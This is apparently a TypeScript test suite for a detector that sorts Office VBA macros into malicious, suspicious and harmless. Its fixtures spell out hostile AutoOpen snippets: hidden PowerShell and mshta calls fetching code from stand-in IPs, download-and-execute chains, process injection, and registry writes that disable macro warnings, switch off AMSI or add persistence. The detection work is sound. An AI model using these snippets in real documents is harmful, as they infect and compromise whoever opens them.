/** Macros together: the effects of one decide what those of another mean. */

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { readBasic } from '#inspect/programs/basic/basic.ts'
import { judgeConcealed, judgeMacros } from './macros.ts'

/** The findings, without the notices, as letters and names: `m AutoProgram`. */
function judged(text: string): string[] {
  const modules = [{ name: 'a', text }]
  const reading = readBasic(modules)
  return [...judgeMacros({ reading, modules, texts: () => [] }), ...judgeConcealed(reading)]
    .map(({ definition: { severity, id } }) => `${severity.slice(0, 1)} ${id.slice('Docvet.Vba.'.length)}`)
    .filter((found) => !found.startsWith('n '))
}

const automatic = (body: string, declarations = ''): string => `${declarations}\nSub AutoOpen()\n${body}\nEnd Sub\n`
const declare = (library: string, ...names: string[]): string =>
  names
    .map((name) => `Private Declare PtrSafe Function ${name} Lib "${library}" (ByVal a As LongPtr) As Long`)
    .join('\n')

const MALICIOUS: Record<string, string> = {
  'AutoProgram: a download, a new name and a start in three commands':
    'Shell "curl -s https://example.com/a -o C:\\Data\\a.txt"\nShell "cmd /c ren C:\\Data\\a.txt a.exe"\nShell "C:\\Data\\a.exe"',
  'AutoProgram: a copy of a file as a program': 'Name "C:\\Data\\a.txt" As "C:\\Data\\a.exe"\nShell "C:\\Data\\a.exe"',
  'AutoProgram: a program of a mapped drive':
    'CreateObject("WScript.Network").MapNetworkDrive "Z:", "\\\\203.0.113.5\\s"\nShell "Z:\\a.exe"',
  'AutoProgram: a program of a mapped server with a name':
    'CreateObject("WScript.Network").MapNetworkDrive "Z:", "\\\\evil.example\\s"\nShell "Z:\\a.exe"',
  'PowerShell: typed': 'SendKeys "^{ESC}r"\nSendKeys "powershell -w hidden iex{(}iwr http://203.0.113.5/a{)}{ENTER}"',
  'AutoProgram: a typed command': 'CreateObject("WScript.Shell").SendKeys "cmd /c calc~"',
  'Downloader: a new document by a template': 'Documents.Add Template:="http://203.0.113.5/x.dotm"',
  'Downloader: an inserted file': 'Selection.InsertFile "http://203.0.113.5/x.docm"',
  'Downloader: an add-in': 'AddIns.Add "\\\\203.0.113.5\\x.dotm", True',
  'AutoProgram: a page with a script':
    'CreateObject("htmlfile").write "<script>new ActiveXObject(\'WScript.Shell\').Run(\'calc\')</script>"',
  'AutoProgram: an item of the control panel': 'CreateObject("Shell.Application").ControlPanelItem "C:\\Data\\a.cpl"',
  'AutoProgram: a statement of a script': 'CreateObject("ScriptControl").ExecuteStatement Range("A1").Value',
  'AutoProgram: an unknown program without a window': 'Shell a.b, 0',
  'AutoProgram: an unknown program by an unknown class': 'CreateObject(a.b).Run a.c',
  'AutoProgram: an unknown program by the service of Windows':
    'GetObject("winmgmts:Win32_Process").Create a.b, n, s, p',
  'AutoProgram: an unknown method': 'CallByName CreateObject("WScript.Shell"), a.b, 1, a.c, 0',
  'AutoProgram: a text of the document': 'Shell "c" & ActiveDocument.Words(1)',
  'AutoProgram: a procedure and its argument in one text':
    'Application.OnTime Now, "\'Other ""mshta http://203.0.113.5/a""\'"\nEnd Sub\nSub Other(a)\nShell a',
  'AutoProgram: a formula for a macro sheet':
    'Sheets.Add Type:=3\nActiveSheet.Cells(1, 1).Formula = "=EXEC(""mshta http://203.0.113.5/a"")"',
  'AutoProgram: an unknown formula for a macro sheet': 'Excel4MacroSheets.Add.Range("A1").FormulaLocal = a.b',
}
const SUSPICIOUS: Record<string, string> = {
  'an unknown program in a window': 'Shell a.b, 1',
  'an unknown folder without a window': 'Shell a.b & "\\tools\\" & a.c, 0',
  'a program of a mapped server of the company':
    'CreateObject("WScript.Network").MapNetworkDrive "Z:", "\\\\fileserver\\apps"\nShell "Z:\\a.exe"',
  'a copy to a server with a name': 'Shell "cmd /c robocopy C:\\Data \\\\fs01.example.com\\backup /mir", vbHide',
  'a program that is installed for one user':
    'Shell Environ("LOCALAPPDATA") & "\\Microsoft\\Teams\\current\\Teams.exe"',
  'a help file': 'Shell "hh.exe " & ThisWorkbook.Path & "\\help.chm", vbNormalFocus',
  'a workbook of the intranet': 'Workbooks.Open "https://intranet.example.com/master.xlsm"',
  'the screen through Excel 4': 'Application.ExecuteExcel4Macro "CALL(""user32"",""GetDC"",""JJ"",0)"',
}
const HARMLESS: Record<string, string> = {
  'files that are no programs':
    'Shell "curl -s https://example.com/a -o C:\\Data\\a.csv"\nShell "C:\\ERP\\client.exe C:\\Data\\a.csv"',
  'keys and texts': 'SendKeys "^{HOME}"\nSendKeys "Total for the year{ENTER}"\nSendKeys "%{F4}"',
  'templates of the company':
    'Documents.Add Template:="\\\\fileserver\\templates\\letter.dotx"\nAddIns.Add "\\\\fileserver\\tools.xlam"',
  'new documents': 'Documents.Add\nWorkbooks.Add\nSelection.InsertFile "C:\\Data\\terms.docx"',
  'a page without a script': 'CreateObject("htmlfile").write "<p>Total</p>"',
  'a drive of the company': 'CreateObject("WScript.Network").MapNetworkDrive "Z:", "\\\\fileserver\\data"',
}

for (const [name, body] of Object.entries(MALICIOUS))
  test(`malicious ${name}`, () =>
    assert.ok(judged(automatic(body)).includes(`m ${name.split(':')[0]}`), judged(automatic(body)).join()))
for (const [name, body] of Object.entries(SUSPICIOUS))
  test(`suspicious: ${name}`, () => assert.match(judged(automatic(body)).join(), /^s \w+$/))
for (const [name, body] of Object.entries(HARMLESS))
  test(`harmless: ${name}`, () => assert.deepEqual(judged(automatic(body)), []))

test('a script of the company without its window is harmless by a click', () => {
  const script = 'Shell "powershell.exe -WindowStyle Hidden -File ""\\\\fileserver\\scripts\\export.ps1""", 0'
  assert.deepEqual(judged(`Sub Button_Click()\n${script}\nEnd Sub`), [])
  assert.deepEqual(judged(automatic(script)), ['m PowerShell'])
})

test('a library is loaded from a folder that the macro chose', () => {
  const load = (name: string, folder = 'Environ("TEMP")'): string =>
    automatic(`ChDir ${folder}\nLoadLibraryA "${name}"`, declare('kernel32', 'LoadLibraryA'))
  assert.deepEqual(judged(load('a.dll')), ['m AutoProgram'])
  assert.deepEqual(judged(load('a.dll', 'ThisDocument.Path')), ['s AutoExecute'])
  assert.deepEqual(judged(load('user32.dll')), [])
})

test('functions that are declared but not called reserve no memory', () => {
  const all = ['VirtualAlloc', 'RtlMoveMemory', 'CreateThread', 'EnumPropsA']
  const declarations = declare('kernel32', ...all)
  assert.deepEqual(judged(automatic('x = 1', declarations)), [])
  assert.deepEqual(judged(automatic('x = VirtualAlloc(0)', declarations)), [])
  assert.deepEqual(judged(automatic('x = VirtualAlloc(0)\nCreateThread x', declarations)), ['m Injection'])
  const lists = declare('user32', 'VirtualProtect', 'EnumDisplaySettingsA', 'EnumPrintersA', 'EnumProcesses')
  const calls = 'VirtualProtect 1\nEnumDisplaySettingsA 1\nEnumPrintersA 1\nEnumProcesses 1'
  assert.deepEqual(judged(automatic(calls, lists)), [])
})

test('every function that writes the registry, starts or fetches is known', () => {
  const effect = (call: string, library = ''): string => {
    const declaration = library === '' ? '' : declare(library, call.split(' ')[0] ?? '')
    const { kind, text } = readBasic([{ name: 'a', text: automatic(call, declaration) }]).effects[0] ?? {}
    return `${kind} ${text}`
  }
  assert.equal(effect('RegSetValueExA 1, "Run", 0', 'advapi32'), 'registry Run 0')
  assert.equal(effect('RegCreateKeyExA 1, "Run"', 'advapi32'), 'registry Run')
  assert.equal(effect('InternetOpenUrlW 1, "http://example.com"', 'wininet'), 'fetch http://example.com')
  assert.equal(effect('CreateProcessW "a.exe", "/x"', 'kernel32'), 'start a.exe /x')
})

test('keys of the registry that load programs or protect Office are known', () => {
  const write = (path: string): string => automatic(`CreateObject("WScript.Shell").RegWrite "${path}", 1`)
  for (const key of ['AMSIEnable', 'Security\\DisableUnsafeLocationsInPV'])
    assert.deepEqual(judged(write(`HKCU\\Software\\Microsoft\\${key}`)), ['m SecurityOff'], key)
  for (const key of ['Windows\\AppInit_DLLs', 'Image File Execution Options\\a.exe\\Debugger'])
    assert.deepEqual(
      judged(write(`HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\${key}`)),
      ['m AutoPersistence'],
      key,
    )
  const dword =
    'GetObject("winmgmts:\\\\.\\root\\default:StdRegProv").SetDWORDValue 1, "Software\\Microsoft\\Office\\Word\\Security", "VBAWarnings", 1'
  assert.deepEqual(judged(automatic(dword)), ['m SecurityOff'])
})
